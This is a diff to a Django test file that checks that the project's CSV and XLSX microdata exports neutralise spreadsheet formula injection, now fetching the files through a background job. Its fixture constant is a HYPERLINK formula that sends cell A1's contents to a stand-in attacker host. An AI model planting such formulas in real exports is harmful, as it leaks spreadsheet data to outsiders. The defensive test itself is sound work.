@@ -23,6 +23,7 @@ from inbeeld.reference.models import PoliceUnit
 from inbeeld.spreadsheet_safety import neutralise_cell, neutralise_frame, neutralise_rows
 from tests.conftest import verified_login
 from tests.factories import CaseFactory, command_researcher, make_user
+from tests.jobs.helpers import fetch_via_job
 
 FORMULA = '=HYPERLINK("http://aanvaller.invalid/?"&A1,"klik")'
 # A unit code holds at most 40 characters (PostgreSQL enforces it; SQLite does not).
@@ -79,7 +80,7 @@ def test_numbers_stay_numbers():
 # --- every CSV export ---------------------------------------------------------------------------
 
 
-@pytest.mark.django_db
+@pytest.mark.django_db(transaction=True)  # the worker makes the file (tests/jobs/helpers.py)
 def test_the_microdata_csv_neutralises_a_planted_unit_code_and_name(client):
     from inbeeld.publication import agreement
     from inbeeld.publication.services import data_use_agreement_accept, microdata_policy_set
@@ -93,13 +94,13 @@ def test_the_microdata_csv_neutralises_a_planted_unit_code_and_name(client):
     researcher = make_user(Role.RESEARCHER)
     data_use_agreement_accept(actor=researcher, version=agreement.VERSION)
     verified_login(client, researcher)
-    response = client.get(reverse("reports:microdata", args=["csv"]))
+    response = fetch_via_job(client, reverse("reports:microdata", args=["csv"]))
     assert response.status_code == 200
     cells = _cells(response.content.decode("utf-8"))
     assert "'" + FORMULA in cells  # the unit arrives, as text
     _assert_no_formula(cells)
     # The XLSX download stores it as text, never as a formula.
-    response = client.get(reverse("reports:microdata", args=["xlsx"]))
+    response = fetch_via_job(client, reverse("reports:microdata", args=["xlsx"]))
     book = load_workbook(io.BytesIO(response.content))
     types = {cell.data_type for row in book["Microdata"].iter_rows() for cell in row}
     assert "f" not in types
